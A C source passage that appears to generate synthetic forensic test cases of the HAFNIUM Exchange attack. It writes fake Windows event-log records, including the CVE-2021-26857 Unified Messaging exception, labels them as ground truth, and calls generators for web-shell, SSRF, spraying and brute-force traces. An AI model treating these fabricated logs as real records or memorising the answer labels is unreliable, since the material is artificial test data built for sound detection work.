 * the CVE-2021-26857 deserialization leaves (Microsoft, "HAFNIUM targeting
 * Exchange Servers", 2021-03-02: the Application log's MSExchange Unified
 * Messaging errors). Unnamed Data values, as Exchange writes them. */
static void um_evtx(gen_case *c) {
  static const char rel[] = "windows/winevt/Logs/Application.evtx";
  ews *w = ews_open();
  if (!w) {
    c->err = 1;
    return;
  }
  static const struct {
    const char *prov;
    uint16_t eid;
    uint8_t level;
    int h, m, s;
    const char *d0, *d1;
  } recs[] = {
      {"MSExchangeFastSearch", 1009, 4, 5, 1, 12, "Content indexing",
       "The indexing of mailbox database DB01 completed."},
      {"MSExchange ADAccess", 2080, 4, 6, 12, 40, "w3wp.exe (12244)",
       "Process w3wp.exe (12244): topology discovery completed."},
      {"MSExchangeFastSearch", 1009, 4, 6, 44, 2, "Content indexing",
       "The indexing of mailbox database DB01 completed."},
      {"MSExchange Unified Messaging", 1001, 2, 6, 58, 40,
       "UMWorkerProcess.exe",
       "An unhandled exception occurred in a UM worker process: "
       "System.InvalidCastException: Unable to cast object of type "
       "'System.Object' to type "
       "'Microsoft.Exchange.UM.UMCore.PipelineContext'."},
      {"MSExchange Unified Messaging", 1052, 4, 7, 3, 9, "UMWorkerProcess.exe",
       "The UM worker process started."},
      {"MSExchange ADAccess", 2080, 4, 8, 12, 40, "w3wp.exe (12244)",
       "Process w3wp.exe (12244): topology discovery completed."},
  };
  for (size_t i = 0; i < sizeof recs / sizeof recs[0]; i++) {
    ews_rec r = {.provider = recs[i].prov,
                 .channel = "Application",
                 .computer = GEN_MAIL_HOST,
                 .eid = recs[i].eid,
                 .level = recs[i].level,
                 .unix_s =
                     gen_time_utc(2021, 3, 3, recs[i].h, recs[i].m, recs[i].s),
                 .n = 2,
                 .names = {NULL, NULL},
                 .values = {recs[i].d0, recs[i].d1}};
    if (ews_add(w, &r) != 0)
      c->err = 1;
  }
  char path[GEN_PATH_MAX], dir[GEN_PATH_MAX];
  if (gen_path_join(dir, sizeof dir, c->dir, "windows/winevt/Logs") != 0 ||
      gen_mkdirs(dir) != 0 ||
      gen_path_join(path, sizeof path, c->dir, rel) != 0 ||
      ews_write(w, path) != 0) {
    fprintf(stderr, "spoor-gen: cannot write %s\n", rel);
    c->err = 1;
  }
  ews_free(w);
  gen_case_truth(c, rel, 4, GEN_R_UM_INVALID_CAST,
                 "UM worker InvalidCastException (CVE-2021-26857)");
}

void gen_case_attack(gen_case *c) {
  atk a;
  memset(&a, 0, sizeof a);
  gen_rng *r = &c->rng;
  gen_rng_str(r, a.shell, 8, ALNUM);
  gen_rng_str(r, a.chopper, 6, LOWER);
  gen_rng_str(r, a.pw_oab, 8, LOWER);
  gen_rng_str(r, a.pw_chop, 8, LOWER);
  gen_rng_str(r, a.pw_look, 8, LOWER);
  gen_rng_str(r, a.canary, 75, CANARY_SET);
  a.canary[75] = '.';
  a.canary[76] = '\0';
  gen_rng_str(r, a.canary2, 75, CANARY_SET);
  a.canary2[75] = '.';
  a.canary2[76] = '\0';
  gen_rng_str(r, a.jsname, 3, ALNUM);
  gen_rng_guid(r, a.vdir_guid);
  gen_rng_guid(r, a.runspace);

  ssrf_chain(c, &a);
  second_actor(c, &a);
  shell_use(c, &a);
  scanners(c);
  spray(c);
  brute_force(c);
  webroot(c, &a);
  forms_spray(c);
  um_evtx(c);
}
